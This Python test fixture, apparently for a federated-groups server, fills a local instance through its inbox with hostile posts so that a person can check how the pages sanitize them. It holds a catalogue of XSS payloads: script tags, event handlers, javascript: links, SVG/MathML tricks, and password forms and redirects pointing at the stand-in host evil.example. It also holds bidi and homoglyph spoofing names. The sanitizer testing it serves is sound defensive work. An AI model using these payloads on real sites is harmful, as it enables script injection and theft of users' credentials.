"""What a server elsewhere may send to do harm on our pages, sent by the inbox that everyone has: specimens, and a
thread that is made of them.

`python -m tests.browser.hostile` shows it all to a person: it fills a server on this machine and says where that is.
"""

import asyncio
import signal
import tempfile
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path

from fedi_groups.actions.keys import make_keys
from fedi_groups.app import now, open_services
from fedi_groups.domain.facts import ActorFacts, PostFacts
from fedi_groups.domain.types import Instant, Uri
from fedi_groups.inbox.gate import Gate
from fedi_groups.inbox.intake import Intake
from fedi_groups.storage.database import Database
from fedi_groups.storage.migrate import migrate
from fedi_groups.wire.shapes import Json
from tests.browser.stage import Clock, Stage, make_lot, resident
from tests.foreign import Foreign
from tests.network import Loopback, Network
from tests.world import SECRET, World

MARK = "window.harmed = true"
EVIL = "https://evil.example"

TEXTS: dict[str, str] = {
    "a script": f"<script>{MARK}</script><script src='{EVIL}/x.js'></script>",
    "handlers": f"<img src=x onerror='{MARK}'><p onclick='{MARK}' onmouseover='{MARK}'>p</p><body onload='{MARK}'>",
    "a drawing": f"<svg onload='{MARK}'><script>{MARK}</script><foreignObject><img src='{EVIL}/p'></svg>",
    "formulas": f"<math><mtext><table><mglyph><style><img src=x onerror='{MARK}'></style></table></math>",
    "links that run": f"<a href='javascript:{MARK}'>j</a><a href=' java\tscript:{MARK}'>t</a><a href='vbscript:x'>b",
    "links of data": f"<a href='data:text/html,<script>{MARK}</script>'>data</a><img src='data:image/svg+xml,<svg/>'>",
    "styles": f"<style>body{{display:none}}</style><p style='position:fixed;inset:0;background:url({EVIL}/b)'>over</p>",
    "a sheet": f"<link rel=stylesheet href='{EVIL}/s.css'><link rel=preload as=image href='{EVIL}/p.png'>",
    "another base": f"<base href='{EVIL}/'><base target=_top><p>base</p>",
    "sent away": f"<meta http-equiv=refresh content='0;url={EVIL}/'><meta name=referrer content=unsafe-url>",
    "a form": f"<form action='{EVIL}/'><input name=password autofocus><button formaction='{EVIL}/'>In</button></form>",
    "frames": f"<iframe src='{EVIL}/' srcdoc='<script>{MARK}</script>'></iframe><object data='{EVIL}/o'></object>",
    "pictures": f"<img src='{EVIL}/p.png' srcset='{EVIL}/q.png 2x'><picture><source srcset='{EVIL}/r'></picture>",
    "sounds": f"<video src='{EVIL}/v' poster='{EVIL}/w' autoplay></video><audio src='{EVIL}/a' autoplay></audio>",
    "names of ours": "<p id=content name=mark class='top menu news'>i</p><a id=comments name=body>b</a>",
    "ends of ours": "</div></article></details></li></ol></main></body></html><h1>After</h1><!-- <p>",
    "tables in tables": "<table><tr><td>" * 200 + "deep" + "</td></tr></table>" * 200,
    "lists in lists": "<ul><li>" * 500 + "deep" + "</li></ul>" * 500,
    "quotes in quotes": "<blockquote>" * 300 + "deep" + "</blockquote>" * 300,
    "a wide table": "<table><tr>" + "<td>wide</td>" * 300 + "</tr></table>",
    "a long word": "<p>" + "W" * 5000 + "</p>",
    "letters piled up": "<p>" + ("Z" + "\u0312\u0352\u0346\u0310\u033b\u0323" * 12) * 40 + "</p>",
    "huge emoji": "<h1>" + "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 300 + "</h1>",
    "turned around": "<p>\u202e\u2067\u2066\u202dturned \u202e around</p>",
    "nothing to be seen": "<p>\u200b\u2060\ufeff\u00ad</p>",
    "half a tag": "<p>half <a href='https://reading.example/",
    "a custom element": f"<x-y onclick='{MARK}'>custom</x-y><template><script>{MARK}</script></template>",
    "code": "<pre>" + "no end " * 400 + "</pre>",
    "a dialog": "<dialog open>over all</dialog><details open ontoggle=x><summary>s</summary></details>",
}
"""HTML by what it is to do."""

NAMES: dict[str, str] = {
    "turned around": "\u202etxet desrever",
    "left open": "\u2067\u2066\u202a\u202d open",
    "like another": "\u0430nn",
    "not to be seen": "\u200b\u2060\u200e",
    "piled up": "Z" + "\u0312\u0352\u0346\u0310" * 30,
    "with a tag": f"<script>{MARK}</script><b>bold",
    "long": "name " * 200,
    "of signs": "\ufdfd\U00012031" * 12,
}
"""What people call themselves, by what it is to do."""

TITLE = "\u202eelttit a <img src=x onerror=" + f"'{MARK}'> " + "long " * 180_000
"""900 KB: what an inbox takes. Another hundred, and it is not read at all."""


@dataclass
class Mouth:
    """A server elsewhere that says what it likes to ours. `signs` its requests at the time that it is there."""

    gate: Gate
    intake: Intake
    drain: Callable[[], Awaitable[object]]
    there: Foreign
    clock: Callable[[], Instant]
    inbox: str
    number: int = 0

    async def sends(self, document: Json) -> None:
        """Raises what the inbox refuses it with."""
        request = self.there.signed(document, inbox=self.inbox, now=self.clock())
        admitted = await self.gate.admit(request, now=self.clock())
        if admitted is not None:
            await self.intake.accept(admitted)

    def person(self, handle: str, **more: str) -> Uri:
        """`more`: what they say of themselves."""
        found = self.there.actor(handle)
        self.there.documents[found] |= more
        return found

    async def joins(self, person: Uri, community: ActorFacts) -> None:
        await self.sends(self.there.activity("Follow", person, community.uri))
        await self.drain()

    async def says(self, person: Uri, community: ActorFacts, *, below: str | None = None, **more: object) -> Uri:
        """The id of what was said, which is worked on with the next that is looked for."""
        self.number += 1
        kind = {"type": "Note", "inReplyTo": below} if below is not None else {"type": "Page"}
        said = self.there.note(person, self.number, to=[community.uri], audience=community.uri, **kind, **more)
        await self.sends(self.there.activity("Create", person, said, to=said["to"], cc=said["cc"]))
        return Uri(said["id"])


@dataclass
class Harm:
    """All of it in one community. `words`: where it is to be seen."""

    world: World
    mouth: Mouth
    community: ActorFacts
    words: dict[str, str] = field(default_factory=dict)

    async def done(self, *, depth: int) -> dict[str, str]:
        speaker = await self._member("mallory", name=NAMES["turned around"], summary="".join(TEXTS.values()))
        root = await self.mouth.says(
            speaker, self.community, name="What harm is there?", content="".join(TEXTS.values())
        )
        for number, (what, text) in enumerate(TEXTS.items()):
            await self.mouth.says(speaker, self.community, below=root, content=f"<p>{number} {what}:</p>{text}")
        for number, name in enumerate(NAMES.values()):
            person = await self._member(f"name{number}", name=name)
            await self.mouth.says(person, self.community, below=root, content=f"<p>{number} of the names</p>")
        titled = await self.mouth.says(speaker, self.community, name=TITLE, content="<p>A title.</p>")
        deep = below = await self.mouth.says(speaker, self.community, name="Deep", content="<p>0</p>")
        for number in range(1, depth + 1):
            below = await self.mouth.says(speaker, self.community, below=below, content=f"<p>{number}</p>")
            if number % 500 == 0:
                await self.mouth.drain()
        await self.mouth.drain()
        for word, uri in (("thread", root), ("titled", titled), ("deep", deep)):
            self.words[word] = str((await self._post(uri)).id)
        self.words["community"] = self.community.name
        return self.words

    async def _member(self, handle: str, **more: str) -> Uri:
        person = self.mouth.person(handle, **more)
        await self.mouth.joins(person, self.community)
        return person

    async def _post(self, uri: Uri) -> PostFacts:
        async with self.world.look() as tx:
            found = await tx.posts.find(uri)
            assert found is not None, f"{uri} was not taken in"
            return found


async def harmed(stage: Stage, *, depth: int) -> dict[str, str]:
    """The server on this stage, which has still nothing on it, filled through its inbox."""
    network, there = Network(), Foreign("there.test")
    network.servers[there.origin] = there.app()
    settings = stage.lot.settings()
    async with open_services(
        settings, origin=stage.origin, connector=Loopback(network), new_keys=lambda _: stage.keys
    ) as services:
        world = World(services.store, Clock(), stage.keys)
        boss = await resident(world, "boss", admin=True)
        community = await world.community("cats", boss)
        mouth = Mouth(services.gate, services.intake, services.inbox.drain, there, now, f"{stage.origin}/inbox")
        return await Harm(world, mouth, community).done(depth=depth)


async def _show(folder: Path) -> None:
    stage = Stage(make_lot(folder, database=None), make_keys(SECRET))
    async with Database(f"sqlite:///{folder / 'fedi-groups.db'}") as database:
        await migrate(database)
    words = await harmed(stage, depth=10_000)
    await stage.server.start()
    try:
        for path in ("/", "/c/{community}", "/post/{thread}", "/post/{titled}", "/post/{deep}"):
            print(f"{stage.origin}{path.format(**words)}")  # noqa: T201  # what it is for
        print("Ctrl+C ends it.")  # noqa: T201  # the same
        ended = asyncio.Event()
        for number in (signal.SIGINT, signal.SIGTERM):
            asyncio.get_running_loop().add_signal_handler(number, ended.set)
        await ended.wait()
    finally:
        await stage.server.stop()


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as place:
        asyncio.run(_show(Path(place)))
